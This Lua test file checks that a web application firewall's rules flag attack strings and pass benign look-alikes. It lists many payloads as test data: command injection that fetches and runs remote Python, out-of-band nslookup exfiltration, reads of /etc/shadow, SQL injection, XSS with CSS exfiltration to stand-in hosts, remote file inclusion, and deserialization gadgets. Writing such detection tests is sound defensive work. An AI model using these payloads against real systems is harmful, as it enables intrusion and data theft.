local rule_checks = require "rule_checks"

-- The sixteenth to twentieth blind sets and the API power users' benign set
-- (tests/edge_security/family_gen_blind_{sixteenth..twentieth}.py, benign_api_power_gen.py): the families
-- they found uncovered and the values our rules misread, value by value (our own spellings, not the sets').
describe("edge.waf.rules sixteenth to twentieth blind sets", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("132250: an option injected where an argument was expected", function()
        caught_by(132250, { "--config=/tmp/x.conf example.org", "-o /etc/cron.hourly/job http://x.example/j",
            "--upload-pack=touch${IFS}/tmp/p", "-oProxyCommand=sh -c id x", "--post-invoke=id -i a.deb",
            "-e robots=off -e https_proxy=x.example:3128 http://10.1.2.3/", "-T ~/.ssh/evil host" })
        clean({ "-updated_at,name", "-1", "-- thanks!", "-20% off everything", "- buy milk\n- call Bob" })
    end)

    it("RCE: ps's idiom, a command closed by a parenthesis, brace lists, cmd.exe delimiters, waitfor", function()
        caught_by(132105, { "10.1.1.1|ps -ef", "a&&ps auxww", "x|(id)", "host; (id)" })
        caught_by(132110, { "&{,cat,/etc/hosts}", "|{,ls,-la}", "& cmd;/c;ver", "x|cmd=/k dir",
            "; wget -qO- http://198.51.100.2/x.py | python3" })
        caught_by(132140, { "& waitfor /t 5 nothing", "|waitfor /si go" })
        caught_by(132160, { "$(`hostname`.x.example)", "a; nslookup `whoami`.oob.example" })
        clean({ "tea; (see notes)", "menu {soup, salad}", "python 3.12 | pip 24", "php 8.3 & composer 2",
            "timeout = \"30s\"", "x\n  id\n  name\n", "query { user {\n    id\n    email\n  }\n}",
            "jQuery's $(document).ready and $(window).on('load')", "ps: see attached" })
    end)

    it("what the narrower line-break and comment readings no longer catch by accident: text pickles, NODE_OPTIONS", function()
        caught_by(132220, { "csubprocess\ncheck_output\n(S'id'\ntR.", "(cnt\nsystem\n(S'dir'\ntR." })
        caught_by(135100, { "NODE_OPTIONS=--require /dev/shm/x.js", "{\"NODE_OPTIONS\": \"--import=data:text/javascript,x\"}" })
        clean({ "NODE_OPTIONS=--max-old-space-size=4096", "cos\nsin\ntan" })
    end)

    it("twenty-first to twenty-fourth: nested and split keywords, Unicode spaces, frameworks' RCE entry points", function()
        caught_by(142300, { "1 UNUNIONION SELSELECTECT 2", "x' AANDND 1=1", "1 SEL<>ECT pw", "1 UNI/*x*/ON SELECT 1" })
        caught_by(142130, { "1\227\128\128UNION\227\128\128SELECT 1", "1\226\128\168UNION\226\128\169SELECT 2",
            "1\28union\31select 3" })
        caught_by(133110, { "a[#pre_render][]=passthru", "s=\\think\\Container/invokefunction",
            "_method=__construct&filter[]=assert", "zerodiumexec('ls');" })
        caught_by(133140, { "avatar.png.php", "cv.pdf.phtml" })
        caught_by(132110, { "s/x/ls/e", "${run{/bin/sh -c id}}", "ephemeral:/tmp/x.jpg", "(%pipe%curl x.example) x" })
        caught_by(132160, { "; /u[s]r/bin/id", "&& /e[t]c/passwd" })
        caught_by(132190, { "&(\"{0}{1}\" -f 'i','ex') 'ls'" })
        caught_by(132220, { "{\"py/reduce\": [{\"py/type\": \"os.system\"}]}", "read_pickle('https://x.example/p')" })
        caught_by(135100, { "module.constructor._load('child_process')" })
        caught_by(135130, { "res.send(JSON.stringify(process.env))" })
        caught_by(144100, { "c.getDeclaredMethod(\"forName\", String.class)" })
        caught_by(144140, { "<mlet code=x archive=x.jar codebase=http://x.example/>", "/h2-console/test.do?x=1" })
        caught_by(134100, { "{{ 6 | plus: 7 }}", "{{ settings | json }}" })
        caught_by(141230, { "\188img src=x onerror=alert(1)\190", "\194\188svg/onload=x\194\190" })
        clean({ "AT&amp;T Unlimited&reg; plan", "Invoice #4411; PO 7781; net 30", "ETA 10 min; ping me if it takes > 30 min.",
            "hi; ping me later\nok", "1/**/union/**/all", "sorry, or rather", "x <> y and a<>b", "pages/[id]/index.tsx",
            "s/foo/bar/g", "{{ price | times: 1.2 }}", "{{ page.title | jsonify }}", "\194\188 cup flour, \194\190 cup sugar",
            "\227\131\166\227\131\188\227\130\182\227\131\188\227\129\140\227\129\190\227\129\153",
            "\208\188\208\190\209\129\209\130", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
            "console.log(process.env.HOME)", "{\"$ref\": \"#/definitions/x\"}" })
    end)

    it("twenty-fifth and twenty-sixth: NoSQL aggregation stages and $where, a prototype path, an ellipsis", function()
        caught_by(142290, { "{\"$unionWith\": \"secrets\"}", "a, $where: \"sleep(100)\"" })
        caught_by(135110, { "Array.prototype.polluted", " object.prototype.role " })
        caught_by(130150, { "..", "..\\", "..../" })
        clean({ "it costs $where: nothing", "See Object.prototype.toString docs", "...", "Wait......", "..........." })
        -- (the twenty-seventh: prose about money after a parenthesis)
        clean({ "Handles onboarding (NDAs, etc.) and approves <= $5,000 purchases", "(see above) or >= €200" })
        caught_by(142100, { "1) and id<=5--", "') or 1>0--" })
    end)

    it("LFI and PHP: /./ segments, container secrets, ini extension paths, dir()", function()
        caught_by(130110, { "/./etc/././shadow", "/run/secrets/api_token", "run/secrets/x" })
        caught_by(133130, { "zend_extension=/var/tmp/x.so", "extension = C:\\temp\\evil.dll" })
        caught_by(133110, { "$h=dir(\"/var/www\");", "print_r(dir('.'))" })
        clean({ "https://github.com/php/php-src/blob/master/php.ini-development", "extension=intl",
            "we run in /run and /secrets", "print(dir(obj))" })
    end)

    it("RFI: a trailing & cuts the suffix; a parameter smuggled into a value", function()
        caught_by(131110, { "http://198.51.100.9/sh.txt&", "//x.example/a.inc&",
            "main&file=http://x.example/s.txt#", "en&lang=ftp://x.example/l.php" })
        clean({ "https://example.com/search?q=a&b=c&", "tea&coffee=https://example.com/menu",
            "https://example.com/docs/a.pdf" })
    end)

    it("SQL: one column FROM a table WHERE ... then a comment; a number INTO variables", function()
        caught_by(142270, { "name FROM accounts WHERE 1=1-- -", "`pw` from users where id>0#" })
        caught_by(142260, { "1 INTO @x", "5,10 into @a,@b,@c" })
        clean({ "tickets from customers where it hurts", "10 into the box", "email me at ann@example.com" })
    end)

    it("SQL: search and filter languages are not boolean SQL", function()
        clean({ "email:\"a@example.com\" || name:\"Ann\"", "title:\"api down\" AND NOT status:closed",
            "state=in=(open,new) and owner==me", "region/name eq 'emea' or region/code eq 'x'",
            "| Admin | matches `actor` and `target` |\n| API | x |", "\"$ref\": \"#/components/schemas/User\"",
            "args: [\"--since\", \"P7D\"]" })
        caught_by(142240, { "' || 'x'='x", "x\" || \"1\"=\"1", "' or a/1--" })
        caught_by(142100, { "' and not 1=1--", "') and not exists(select 1)--" })
        caught_by(142180, { "admin'--", "x' -- -", "'#" })
    end)

    it("XSS: keyword operators after a string, CSS selector exfiltration, opener, dangling markup, id twins", function()
        caught_by(141180, { "\"typeof alert(1)//", "'instanceof eval(name)'" })
        caught_by(141160, { "a[href^=https]{background:url(//x.example/l)}", "input[value$=z] {list-style:url(//x/z)}" })
        caught_by(141140, { "top.location='//x.example'", "parent.location.href=name", "alert()//" })
        caught_by(141150, { "<img src='//x.example/log?", "<form action=\"https://x.example/c" })
        caught_by(141200, { "<a id=cfg></a><a id=cfg name=url href=//x.example>" })
        clean({ "alert() blocks the main thread", "CSS expression() is gone since IE8",
            "input[type=email] is styled in forms.css", "window.top is the outermost frame" })
    end)

    it("Java and templates: bracketed class.module.classLoader, remote JDBC resources, Smarty comments", function()
        caught_by(144100, { "class[module][classLoader][URLs][0]=http://x.example/", "class.classLoader.x=1" })
        caught_by(144160, { "jdbc:sqlite::resource:https://x.example/a.db", "jdbc:derby:jar:(http://x.example/d.jar)x" })
        caught_by(134130, { "{*x*}", "a{* smarty *}b" })
        clean({ "jdbc:postgresql://db:5432/app", "{*.js,*.ts}", "5 * 3 = 15" })
    end)
end)
